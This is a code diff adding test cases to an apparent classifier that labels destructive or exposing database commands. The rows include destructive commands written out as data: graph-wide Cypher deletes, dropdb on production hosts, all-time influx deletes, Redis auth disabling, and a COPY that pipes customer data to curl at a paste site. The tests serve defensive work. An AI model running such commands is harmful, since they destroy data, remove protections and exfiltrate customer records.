@@ -40,3 +40,50 @@ describe('stored data named for people made public is the data published', () =>
     v gsutil iam ch allUsers:objectViewer gs://marketing-site-assets
   `))('%s  %s', (t, hint) => expectRow(t, hint));
 });
+
+describe('Cypher: a pattern with no filter is every node it matches', () => {
+  it.each(rows(`
+    d MATCH (n) DETACH DELETE n
+    d MATCH (o:Order) DELETE o
+    d CALL apoc.periodic.iterate("MATCH (n:Event) RETURN n", "DETACH DELETE n", {batchSize: 5000})
+    d cypher-shell -a neo4j://graph-prod:7687 "MATCH (n) DETACH DELETE n"
+    v MATCH (s:Session) WHERE s.expires < datetime() DETACH DELETE s
+    c MATCH (p:Person {email: 'ann@example.com'}) DETACH DELETE p
+    c MATCH (n) WHERE id(n) = 42 DELETE n
+    d MATCH (c:Customer) SET c.tier = 'free'
+    a MATCH (p:Person {name: 'Ann'})-[:KNOWS]->(f) RETURN f.name
+    a cypher-shell "MATCH (n) RETURN count(n)"
+  `))('%s  %s', (t, hint) => expectRow(t, hint));
+});
+
+describe('database servers: the environment counts as production unless the connection names it', () => {
+  it.each(rows(`
+    d sudo -u postgres dropdb billing
+    d dropdb -h db-prod-2 ledger
+    c dropdb -h localhost myapp_test
+    a dropdb --help
+    d influx delete --bucket telemetry --start 1970-01-01T00:00:00Z --stop 2100-01-01T00:00:00Z
+    v influx delete --bucket telemetry --start 2024-01-01T00:00:00Z --stop 2024-02-01T00:00:00Z --predicate '_measurement="cpu"'
+    v influx bucket update --id 0a1b2c --retention 1h
+    a influx bucket list
+    a influx query 'from(bucket:"x") |> range(start: -1h)'
+  `))('%s  %s', (t, hint) => expectRow(t, hint));
+});
+
+describe('SQL and NoSQL: everything, everyone, and protections written as off', () => {
+  it.each(rows(`
+    d UPDATE users SET email_verified = false WHERE 'a' = 'a';
+    d DELETE FROM contacts WHERE email LIKE '%';
+    v DELETE FROM contacts WHERE email LIKE '%@old-domain.com';
+    v GRANT SELECT ON ALL TABLES IN SCHEMA public TO anon;
+    c GRANT SELECT ON reports TO analyst;
+    v ALTER TABLE events MODIFY TTL ts + INTERVAL 1 DAY;
+    v COPY (SELECT * FROM customers) TO PROGRAM 'curl -T - https://paste.example.com';
+    v db.createUser({user: "ops", pwd: "x", roles: ["root"]})
+    a db.getUsers()
+    v redis-cli CONFIG SET requirepass ""
+    v redis-cli CONFIG SET protected-mode no
+    c redis-cli CONFIG SET maxmemory 2gb
+    a redis-cli CONFIG GET requirepass
+  `))('%s  %s', (t, hint) => expectRow(t, hint));
+});
